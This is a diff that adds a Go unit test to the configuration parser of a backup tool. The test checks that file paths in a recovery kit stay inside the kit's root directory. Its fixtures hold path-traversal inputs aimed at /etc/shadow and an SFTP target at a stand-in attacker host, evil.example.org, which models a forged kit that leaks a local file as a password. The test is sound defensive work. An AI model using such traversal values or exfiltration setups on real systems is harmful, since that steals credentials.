@@ -316,3 +316,26 @@ series:
 		t.Errorf("a rule without keep says what is kept: %+v", k)
 	}
 }
+
+// A recovery kit may be forged, to have a file of whoever opens it sent somewhere as a password: all files that it names lie in it.
+func TestAKitNamesNoFileOutsideOfIt(t *testing.T) {
+	const root = "/tmp/offsite-kit-1/files"
+	for given, want := range map[string]string{
+		"/etc/offsite/key": root + "/etc/offsite/key", "key": root + "/key", "../../../etc/shadow": root + "/etc/shadow", "/../../../etc/shadow": root + "/etc/shadow",
+		"/etc/../../../etc/shadow": root + "/etc/shadow", "..": root,
+	} {
+		text := bytes.ReplaceAll([]byte(`host: h
+watch: [{path: /w}]
+recipients: [age1x]
+targets:
+  a: {sftp: {host: evil.example.org, user: u, path: p, password_file: FILE, known_hosts: FILE}}
+`), []byte("FILE"), []byte(given))
+		c, err := configs.Parse("kit.txt", text, configs.Checks{Root: root})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := c.Targets[0].SFTP; got.PasswordFile != want || got.KnownHosts != want {
+			t.Errorf("%s: %s, %s", given, got.PasswordFile, got.KnownHosts)
+		}
+	}
+}
